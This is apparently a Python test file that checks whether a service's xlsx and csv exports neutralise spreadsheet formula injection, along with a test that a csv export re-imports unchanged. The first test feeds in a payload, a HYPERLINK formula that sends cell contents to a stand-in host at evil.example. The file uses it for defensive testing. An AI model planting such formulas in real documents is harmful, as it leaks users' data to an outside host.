"""Hostile and careless input, as the probe of the service sent it: each gets a 4xx with a Japanese
message (or a row error inside an otherwise good import), bounded memory, and nothing half-stored."""

import io

from tests.support import bearer


def test_exports_neutralise_formulas_and_leave_no_files(desk):
    from openpyxl import load_workbook

    c, settings = desk["client"], desk["settings"]
    evil = '=HYPERLINK("http://evil.example/?"&A1;"click")'
    r = c.post("/api/organizations", json={"external_id": "EV1", "name": evil}, headers=bearer(c))
    assert r.status_code == 201, r.text
    before = sorted(p.name for p in settings.data_dir.iterdir())
    x = c.get("/api/export?format=xlsx", headers=bearer(c))
    assert x.status_code == 200
    ws = load_workbook(io.BytesIO(x.content))["企業"]
    cell = next(cell for row in ws.iter_rows() for cell in row if cell.value == evil)
    assert cell.data_type == "s"
    text = c.get("/api/export?format=csv&table=organizations", headers=bearer(c)).content.decode("utf-8-sig")
    assert "'" + evil.replace('"', '""') in text and "\n" + evil not in text and "," + evil not in text
    assert sorted(p.name for p in settings.data_dir.iterdir()) == before


def test_a_csv_export_reimports_unchanged(desk, tmp_path):
    from matcher.exchange.catalog import import_file
    from matcher.exchange.export import export

    c = desk["client"]
    c.post("/api/organizations", json={"external_id": "EV2", "name": "-5度の冷凍（架空）"}, headers=bearer(c))
    export(desk["engine"], tmp_path / "csv", "csv")
    again = import_file(desk["engine"], tmp_path / "csv" / "organizations.csv", "organizations")
    assert again.inserted == 0 and again.updated == 0 and not again.rejected
